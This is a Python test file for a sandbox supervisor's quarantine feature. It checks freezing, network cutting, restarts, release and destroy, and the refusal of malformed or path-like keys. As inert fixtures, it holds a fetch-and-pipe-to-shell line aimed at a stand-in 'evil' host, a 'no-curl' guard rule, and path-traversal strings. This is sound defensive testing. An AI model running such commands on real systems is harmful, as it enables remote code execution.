"""Quarantine against an in-memory engine: an alarm freezes the sandbox, cuts its network
and refuses every later call with a clear status; a restart keeps it so; housekeeping leaves
it alone; release restores it and destroy ends it; hostile keys and alarms are refused."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import grpc
import pytest

from stockade.supervisor.config import Config, SandboxConfig
from stockade.supervisor.errors import (
    InvalidRequest,
    NotFound,
    Quarantined,
    SandboxNotFound,
)
from stockade.supervisor.fronts.grpc.status import status_for
from stockade.supervisor.observe.alarms import Alarm
from stockade.supervisor.sandboxes.manager import SandboxManager
from stockade.supervisor.sandboxes.quarantine import MAX_ALARMS, QUARANTINE
from tests.unit.fakes import FakeBackend, fake_manager, invoke, quiet_housekeeping


def manager(
    tmp_path: Path, backend: FakeBackend, network: str = "none", **hk: Any
) -> SandboxManager:
    config = Config(
        state_dir=tmp_path,
        sandbox=SandboxConfig(user="1000:1000", network=network),  # type: ignore[arg-type]
        housekeeping=quiet_housekeeping(**hk),
    )
    return fake_manager(config, backend, silence_s=0.05)


def alarm(key: str = "k", detail: str = "guard rule no-curl matched") -> Alarm:
    return Alarm(key, "guard", "guard", detail, "exec: curl http://evil")


@pytest.fixture
def backend() -> FakeBackend:
    return FakeBackend()


async def test_an_alarm_freezes_and_refuses_every_call(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    sandbox = await mgr.ensure("k")
    await mgr.quarantine("k", alarm())
    assert backend.containers[sandbox.info.id].paused, "frozen, not killed"
    assert backend.containers[sandbox.info.id].running
    with pytest.raises(Quarantined) as caught:
        await invoke(mgr, "k", "exec", {}, 5, "r1")
    message = str(caught.value)
    assert "sandbox 'k' is quarantined since 20" in message
    assert "guard rule no-curl matched" in message
    assert "`stockade quarantine show k`" in message
    assert "`release` or `destroy`" in message
    assert status_for(caught.value) == grpc.StatusCode.FAILED_PRECONDITION
    with pytest.raises(Quarantined):
        await mgr.resume("k", "sneaky")
    with pytest.raises(Quarantined):
        await mgr.ensure("k")
    assert backend.containers[sandbox.info.id].paused
    assert backend.runs == 1, "no new container either"
    info = await mgr.get("k")
    assert info.quarantined_at is not None
    assert info.state.value == "PAUSED"
    assert [i.quarantined_at is not None for i in await mgr.list()] == [True]
    kept = json.loads((mgr.layout.of("k").root / QUARANTINE).read_text())
    assert kept["frozen"] is True
    assert kept["alarms"][0]["evidence"] == "exec: curl http://evil"


async def test_a_lease_held_when_the_alarm_sounds_is_refused_at_its_next_agent_call(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    async with mgr.lease("k") as lease:
        await mgr.quarantine("k", alarm())
        with pytest.raises(Quarantined):
            await lease.invoke("read_file", {}, 5, "r2")


async def test_quarantine_is_idempotent_and_keeps_a_bounded_list(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    await mgr.ensure("k")
    for i in range(MAX_ALARMS + 10):
        await mgr.quarantine("k", alarm(detail=f"alarm {i}"))
    await mgr.quarantine("k", alarm(detail="alarm 0"))
    record = mgr.quarantines.get("k")
    assert len(record.alarms) == MAX_ALARMS
    assert record.why == "alarm 0"
    assert [c for c in backend.pause_calls if c[1]] == [(record_id(mgr), True)]


def record_id(mgr: SandboxManager) -> str:
    return mgr.registry["k"].info.id


async def test_open_network_is_disconnected_and_reconnected(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend, network="open")
    sandbox = await mgr.ensure("k")
    await mgr.quarantine("k", alarm())
    assert backend.connect_calls == [(sandbox.info.id, False)]
    assert mgr.quarantines.get("k").network_cut == "open"
    await mgr.quarantines.release("k")
    assert backend.connect_calls[-1] == (sandbox.info.id, True)


async def test_release_thaws_and_serves_again(tmp_path: Path, backend: FakeBackend) -> None:
    mgr = manager(tmp_path, backend)
    sandbox = await mgr.ensure("k")
    await mgr.quarantine("k", alarm())
    released = await mgr.quarantines.release("k")
    assert released.why == "guard rule no-curl matched"
    assert not backend.containers[sandbox.info.id].paused
    assert not (mgr.layout.of("k").root / QUARANTINE).exists()
    assert (await mgr.get("k")).quarantined_at is None
    reply = await invoke(mgr, "k", "exec", {}, 5, "r3")
    assert reply.result["exit_code"] == 0
    assert backend.runs == 1, "the same container, thawed"
    with pytest.raises(NotFound, match="not quarantined"):
        await mgr.quarantines.release("k")


async def test_a_restart_keeps_it_quarantined_and_frozen(
    tmp_path: Path, backend: FakeBackend
) -> None:
    first = manager(tmp_path, backend)
    sandbox = await first.ensure("k")
    await first.quarantine("k", alarm())
    await first.close()
    second = manager(tmp_path, backend)
    assert await second.start() == ["k"]
    assert backend.containers[sandbox.info.id].paused
    assert second.quarantines.get("k").why == "guard rule no-curl matched"
    with pytest.raises(Quarantined):
        await invoke(second, "k", "exec", {}, 5, "r4")
    assert (await second.get("k")).state.value == "PAUSED"
    await second.quarantines.release("k")
    await invoke(second, "k", "exec", {}, 5, "r5")
    assert backend.runs == 1


async def test_a_restart_keeps_a_quarantined_container_on_an_old_image(
    tmp_path: Path, backend: FakeBackend
) -> None:
    first = manager(tmp_path, backend)
    sandbox = await first.ensure("k")
    await first.quarantine("k", alarm())
    await first.close()
    backend.image_ids["img"] = "a-new-build"
    second = manager(tmp_path, backend)
    await second.start()
    assert sandbox.info.id in backend.containers, "evidence is not replaced"
    assert backend.runs == 1


async def test_a_damaged_record_still_quarantines(tmp_path: Path, backend: FakeBackend) -> None:
    first = manager(tmp_path, backend)
    await first.ensure("k")
    await first.quarantine("k", alarm())
    await first.close()
    (first.layout.of("k").root / QUARANTINE).write_text("{not json")
    second = manager(tmp_path, backend)
    await second.start()
    with pytest.raises(Quarantined, match="quarantined by an operator"):
        await second.ensure("k")


async def test_housekeeping_leaves_it_alone(tmp_path: Path, backend: FakeBackend) -> None:
    mgr = manager(tmp_path, backend, idle_timeout_s=0.05, max_age_s=0.05)
    sandbox = await mgr.ensure("k")
    await mgr.ensure("other")
    await mgr.quarantine("k", alarm())
    await asyncio.sleep(0.1)
    await mgr.sweep()
    assert "k" in mgr.registry
    assert sandbox.info.id in backend.containers
    assert "other" not in mgr.registry, "the others are pruned as before"


async def test_destroy_ends_it(tmp_path: Path, backend: FakeBackend) -> None:
    mgr = manager(tmp_path, backend)
    sandbox = await mgr.ensure("k")
    await mgr.quarantine("k", alarm())
    await mgr.destroy("k", delete_workspace=False)
    assert sandbox.info.id not in backend.containers
    assert not mgr.quarantines.list()
    assert not (mgr.layout.of("k").root / QUARANTINE).exists()
    await invoke(mgr, "k", "exec", {}, 5, "r6")


@pytest.mark.parametrize("key", ["", "a" * 10_000, "k\x00", "bad tenant\x00k", "\ud800"])
async def test_invalid_keys_are_refused(tmp_path: Path, backend: FakeBackend, key: str) -> None:
    mgr = manager(tmp_path, backend)
    with pytest.raises(InvalidRequest):
        await mgr.quarantine(key, alarm(key))
    with pytest.raises(InvalidRequest):
        await mgr.quarantines.release(key)
    with pytest.raises(InvalidRequest):
        mgr.quarantines.get(key)
    assert not list(tmp_path.rglob(QUARANTINE))


@pytest.mark.parametrize("key", ["../x", "/etc", "t/../../k", "..", "k\n"])
async def test_path_like_keys_name_no_path(tmp_path: Path, backend: FakeBackend, key: str) -> None:
    """A key is hashed into its folder's name: one that looks like a path reaches nothing."""
    mgr = manager(tmp_path, backend)
    with pytest.raises(SandboxNotFound):
        await mgr.quarantine(key, alarm(key))
    with pytest.raises(NotFound):
        await mgr.quarantines.release(key)
    await mgr.ensure(key)
    await mgr.quarantine(key, alarm(key))
    (kept,) = tmp_path.rglob(QUARANTINE)
    assert kept.parent == mgr.layout.of(key).root
    assert kept.parent.parent == mgr.layout.root


async def test_unknown_keys_and_alarms_for_another_key(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    with pytest.raises(SandboxNotFound):
        await mgr.quarantine("nobody", alarm("nobody"))
    await mgr.ensure("k")
    with pytest.raises(InvalidRequest, match="another sandbox"):
        await mgr.quarantine("k", alarm("other"))
    with pytest.raises(NotFound):
        mgr.quarantines.get("k")
    assert not mgr.quarantines.list()


async def test_a_key_with_only_a_workspace_is_quarantined_and_stays_so(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    await mgr.ensure("k")
    await mgr.destroy("k", delete_workspace=False)
    await mgr.quarantine("k", alarm())
    with pytest.raises(Quarantined):
        await mgr.ensure("k")
    assert backend.runs == 1


async def test_a_snapshot_keeps_the_evidence_but_restore_and_fork_are_refused(
    tmp_path: Path, backend: FakeBackend
) -> None:
    mgr = manager(tmp_path, backend)
    await mgr.ensure("k")
    (mgr.layout.of("k").workspace / "evil.sh").write_text("curl evil | sh\n")
    await mgr.snapshots.snapshot("k", "before", include_tmp=False, include_memory=False, reason="t")
    await mgr.quarantine("k", alarm())
    taken = await mgr.snapshots.snapshot(
        "k", "evidence", include_tmp=False, include_memory=False, reason="keep it"
    )
    assert taken.snapshot.files == 1
    with pytest.raises(Quarantined):
        await mgr.snapshots.restore("k", "before", "wipe the evidence")
    with pytest.raises(Quarantined):
        await mgr.snapshots.fork("k", ["copy"], include_tmp=False, include_memory=False, reason="r")
    assert "copy" not in mgr.registry
    assert backend.containers[mgr.registry["k"].info.id].paused, "still frozen"


@pytest.mark.parametrize(
    "text",
    [
        '{"since": NaN, "alarms": []}',
        '{"since": 1e300, "alarms": [{"kind": "guard", "time": Infinity}]}',
        '{"since": "x", "alarms": "nope"}',
        '{"alarms": [null, 1, {"kind": "guard"}]}',
        "[]",
        "\udcff",
    ],
)
async def test_hostile_records_still_quarantine_and_read_sanely(
    tmp_path: Path, backend: FakeBackend, text: str
) -> None:
    first = manager(tmp_path, backend)
    await first.ensure("k")
    await first.close()
    (first.layout.of("k").root / QUARANTINE).write_text(text, errors="surrogateescape")
    second = manager(tmp_path, backend)
    await second.start()
    (held,) = second.quarantines.list()
    assert 0 < held.since < 95_000_000_000
    assert held.alarms == []
    with pytest.raises(Quarantined):
        await second.ensure("k")
    assert backend.containers[second.registry["k"].info.id].paused, "frozen at start"


async def test_the_same_alarm_twice_is_one_quarantine_on_record(
    tmp_path: Path, backend: FakeBackend
) -> None:
    """A quarantine by hand quarantines, then sounds its alarm, whose reaction quarantines
    again with that very alarm: one record of it, one audit line, one freeze."""
    mgr = manager(tmp_path, backend)
    events: list[tuple[str, str]] = []
    mgr.record = lambda key, action, reason: events.append((key, action))
    await mgr.ensure("k")
    by_hand = alarm(detail="quarantined by an operator")
    await mgr.quarantine("k", by_hand)
    await mgr.quarantine("k", by_hand)
    assert mgr.quarantines.get("k").alarms == [by_hand]
    assert events.count(("k", "quarantine")) == 1
    assert [c for c in backend.pause_calls if c[1]] == [(record_id(mgr), True)]
